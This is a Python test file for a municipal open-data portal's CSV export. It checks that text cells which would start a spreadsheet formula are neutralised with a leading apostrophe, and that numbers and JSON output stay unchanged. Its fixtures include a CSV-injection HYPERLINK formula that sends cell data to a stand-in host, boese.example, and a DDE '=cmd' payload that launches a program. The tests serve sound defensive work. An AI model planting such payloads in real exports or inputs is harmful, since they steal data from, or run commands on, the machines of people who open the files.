"""Open data CSV that a Kommune's readers open in a spreadsheet: a text cell that would start
a formula (=, +, -, @, tab, carriage return) begins with ' (OWASP), a number column keeps
its numbers, negative ones too, and the JSON keeps the text as it was typed."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest

from dkbm import cycles, indicators, network
from dkbm.portal.build import build
from dkbm.portal.opendata import encode
from dkbm.states.indicators import ItemKind
from tests.conftest import T0
from tests.factories import BY, make_network

HYPERLINK = '=HYPERLINK("https://boese.example/?d="&A1;"Klick")'
COMMAND = "=cmd|' /C calc'!A0"


def _rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / "data" / f"{name}.csv").open(encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def _json(folder: Path, name: str) -> list[dict[str, object]]:
    return json.loads((folder / "data" / f"{name}.json").read_text(encoding="utf-8"))


@pytest.fixture
def out(sqlite_url: str, tmp_path: Path) -> Path:
    net = make_network(voting=3, others=0)
    owner = network.add_actor(
        name="@Kim",
        organisation=COMMAND,
        email="kim@example.org",
        sector="verwaltung",
        areas=["schule"],
        consent=True,
        lang="de",
        by=BY,
        now=T0,
    ).id
    c = cycles.start(title=HYPERLINK, board_id=net.board, by=BY, now=T0).id or 0
    goal = cycles.add_goal(c, "+49 Teilnehmende", ["schule"], by=BY, now=T0).goals[-1].id
    strategy = cycles.add_strategy(c, goal, "-Strategie", by=BY, now=T0).strategies[-1].id
    measure = cycles.save_measure(
        c,
        strategy_id=strategy,
        title="@SUMME(A1:A9)",
        owner_id=owner,
        indicator="Quote",
        target_value="-5 %",
        deadline=None,
        by=BY,
        now=T0,
    ).measures[-1]
    ind = indicators.add(
        c,
        item_kind=ItemKind.MASSNAHME,
        item_id=measure.id,
        name="+Saldo der Übergänge",
        unit="%-Punkte",
        source="Statistik",
        baseline=(-2.0, 2024),
        target=(1.0, 2028),
        by=BY,
        now=T0,
    )
    indicators.record_value(ind.id or 0, year=2025, value=-3.5, note="-vorläufig", by=BY, now=T0)
    folder = tmp_path / "portal"
    build(folder, T0 + timedelta(days=1))
    return folder


def test_text_that_would_start_a_formula_is_neutralised_in_every_csv(out: Path) -> None:
    assert _rows(out, "zyklen")[0]["titel"] == "'" + HYPERLINK
    assert _rows(out, "ziele")[0]["titel"] == "'+49 Teilnehmende"
    assert _rows(out, "strategien")[0]["titel"] == "'-Strategie"
    measure = _rows(out, "massnahmen")[0]
    assert measure["titel"] == "'@SUMME(A1:A9)" and measure["zielwert"] == "'-5 %"
    assert measure["verantwortlich_name"] == "'@Kim"
    assert measure["verantwortlich_organisation"] == "'" + COMMAND
    assert _rows(out, "kennzahlen")[0]["name"] == "'+Saldo der Übergänge"
    for table in (out / "data").glob("*.csv"):
        for row in csv.reader(table.open(encoding="utf-8-sig"), delimiter=";"):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table.name, cell)


def test_numbers_stay_numbers_and_the_json_keeps_the_text(out: Path) -> None:
    value = _rows(out, "kennzahlwerte")[0]
    assert (value["wert"], value["notiz"]) == ("-3,5", "'-vorläufig")  # data, and a note
    indicator = _rows(out, "kennzahlen")[0]
    assert (indicator["ausgangswert"], indicator["zielwert"]) == ("-2", "1")
    assert _json(out, "zyklen")[0]["titel"] == HYPERLINK
    assert _json(out, "massnahmen")[0]["verantwortlich"] == {
        "name": "@Kim",
        "organisation": COMMAND,
        "sektor": "verwaltung",
    }
    assert _json(out, "kennzahlwerte")[0]["notiz"] == "-vorläufig"
    assert _json(out, "kennzahlwerte")[0]["wert"] == -3.5


def test_the_metadata_and_the_open_data_page_say_so(out: Path) -> None:
    meta = json.loads((out / "data" / "metadaten.json").read_text(encoding="utf-8"))
    assert "beginnt in der CSV mit '" in meta["csv"]["formeln"]
    assert "Zahlenspalten" in meta["csv"]["formeln"]
    german = (out / "daten.html").read_text(encoding="utf-8")
    english = (out / "en" / "daten.html").read_text(encoding="utf-8")
    assert "so öffnet eine Tabellenkalkulation ihn als Text, nicht als Formel" in german
    assert "a spreadsheet then opens it as text, not as a formula" in english


def test_a_tab_or_carriage_return_at_the_start_is_neutralised_too() -> None:
    encoded = encode("strategien", [{"zyklus": 1, "id": 2, "ziel": 3, "titel": "\tSumme"}])
    assert encoded.records[0][2] == "1;2;3;'\tSumme\r\n"
    encoded = encode("strategien", [{"zyklus": 1, "id": 2, "ziel": 3, "titel": "\r=1+1"}])
    assert next(csv.reader([encoded.records[0][2]], delimiter=";"))[3] == "'\r=1+1"


@pytest.mark.parametrize("title", ["=1+1", "+49 911", "-3 Kitas", "@SUM(A1)", "Kita"])
def test_the_open_data_neutralises_by_the_one_rule_of_tabular(title: str) -> None:
    """The portal's open data and the Akteure export write a text cell alike
    (`dkbm.tabular.neutralised`): one rule, not two copies of it."""
    from dkbm import tabular

    encoded = encode("strategien", [{"zyklus": 1, "id": 2, "ziel": 3, "titel": title}])
    cell = next(csv.reader([encoded.records[0][2]], delimiter=";"))[3]
    assert cell == tabular.neutralised(title)
    assert tabular.restored(cell) == title
